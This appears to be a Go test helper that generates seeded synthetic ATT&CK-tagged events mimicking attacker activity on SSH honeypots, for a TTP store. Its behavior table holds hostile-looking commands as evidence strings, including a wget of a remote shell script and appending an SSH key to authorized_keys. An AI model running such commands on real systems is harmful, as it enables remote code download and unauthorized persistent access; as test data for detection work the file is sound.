package ttptest

import (
	"encoding/json"
	"fmt"
	"math/rand/v2"
	"time"

	"github.com/google/uuid"

	"github.com/decnet/ttpstore/ttp"
)

// behavior is a typical action of attackers on SSH honeypots, with its weight.
type behavior struct {
	kind, tactic, technique, sub, rule string
	evidence                           []string
	weight                             int
}

var behaviors = []behavior{
	{"auth_attempt", "TA0006", "T1110", "T1110.001", "R1001", []string{`{"user":"root"}`, `{"user":"admin"}`, `{"user":"pi"}`}, 50},
	{"auth_attempt", "TA0001", "T1078", "", "R1002", []string{`{"user":"root"}`}, 12},
	{"command", "TA0007", "T1082", "", "R2001", []string{`{"line":"uname -a"}`, `{"line":"cat /proc/cpuinfo"}`}, 15},
	{"command", "TA0007", "T1083", "", "R2002", []string{`{"line":"ls -la /tmp"}`}, 8},
	{"command", "TA0002", "T1059", "T1059.004", "R2003", []string{`{"line":"sh x.sh"}`, `{"line":"bash -c id"}`}, 8},
	{"command", "TA0011", "T1105", "", "R2004", []string{`{"line":"wget http://203.0.113.9/x.sh"}`}, 5},
	{"command", "TA0003", "T1098", "T1098.004", "R2005", []string{`{"line":"echo ssh-rsa AAAA >> .ssh/authorized_keys"}`}, 4},
	{"payload", "TA0040", "T1496", "", "R3001", []string{`{"family":"miner"}`}, 2},
}

// Tags returns n valid tags like those of a fleet of SSH honeypots: a few attackers have most of the tags, in sessions
// of several tags on one decky, over thirty days. The same seed gives the same tags. None has an identity.
func Tags(seed uint64, n int) []ttp.Tag {
	random := rand.New(rand.NewPCG(seed, 0))
	start := time.Date(2026, 3, 1, 0, 0, 0, 0, time.UTC)
	tags := make([]ttp.Tag, 0, n)
	for session := 0; len(tags) < n; session++ {
		attacker := int(random.ExpFloat64() * 20)
		at := start.Add(time.Duration(random.Int64N(int64(30 * ttp.Day)))).Truncate(time.Microsecond)
		for event := range min(1+random.IntN(8), n-len(tags)) {
			b := anyBehavior(random)
			at = at.Add(time.Duration(random.IntN(5_000_000)) * time.Microsecond)
			tags = append(tags, ttp.Tag{
				SourceKind: b.kind, SourceID: fmt.Sprintf("%d-%d#%d", seed, session, event),
				AttackerUUID: uuid.NewSHA1(uuid.NameSpaceURL, fmt.Appendf(nil, "attacker %d %d", seed, attacker)),
				SessionID:    fmt.Sprintf("session-%d-%d", seed, session), DeckyID: fmt.Sprintf("decky-%02d", random.IntN(12)),
				Tactic: b.tactic, TechniqueID: b.technique, SubTechniqueID: b.sub, Confidence: float64(30+random.IntN(71)) / 100,
				RuleID: b.rule, RuleVersion: 1, AttackRelease: "enterprise-v18.1", ObservedAt: at,
				Evidence: json.RawMessage(b.evidence[random.IntN(len(b.evidence))]),
			})
		}
	}
	return tags
}

func anyBehavior(random *rand.Rand) behavior {
	total := 0
	for _, b := range behaviors {
		total += b.weight
	}
	at := random.IntN(total)
	for _, b := range behaviors {
		if at -= b.weight; at < 0 {
			return b
		}
	}
	panic("the weights do not add up")
}
